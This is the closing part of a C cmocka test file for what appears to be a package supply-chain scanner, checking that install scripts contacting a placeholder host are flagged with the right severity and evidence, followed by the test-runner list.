	assert_true(script(r, "prepare")->egress);
	assert_int_equal(prep->severity, SEV_HIGH);
	assert_string_equal(prep->host, "run.example.org");
	assert_false(script(r, "postinstall")->egress);
	assert_int_equal(post->severity, SEV_MEDIUM);
	report_free(r);

	r = check(dir, NULL, false);
	assert_non_null(post = find(r, "install-script", "postinstall runs"));
	add_evidence(r, "run.example.org", "dynamic", NULL, "install");
	metadata_finish(r);
	for (size_t i = 0; i < r->package->scripts.len; i++)
		assert_true(r->package->scripts.items[i].egress);
	assert_int_equal(post->severity, SEV_HIGH);
	assert_string_equal(post->host, "run.example.org");
	assert_int_equal(post->chain.len, 1);
	assert_non_null(strstr(post->chain.items[0], "install run: "));
	report_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_install_scripts),
		cmocka_unit_test(test_script_commands),
		cmocka_unit_test(test_binding_gyp),
		cmocka_unit_test(test_bins),
		cmocka_unit_test(test_typosquats),
		cmocka_unit_test(test_python),
		cmocka_unit_test(test_python_requirements_and_metadata),
		cmocka_unit_test(test_lockfile),
		cmocka_unit_test(test_invalid_manifest),
		cmocka_unit_test(test_npm_manifest_as_npm_reads),
		cmocka_unit_test(test_existing_package),
		cmocka_unit_test(test_registry_age),
		cmocka_unit_test(test_registry_pypi),
		cmocka_unit_test(test_finish),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
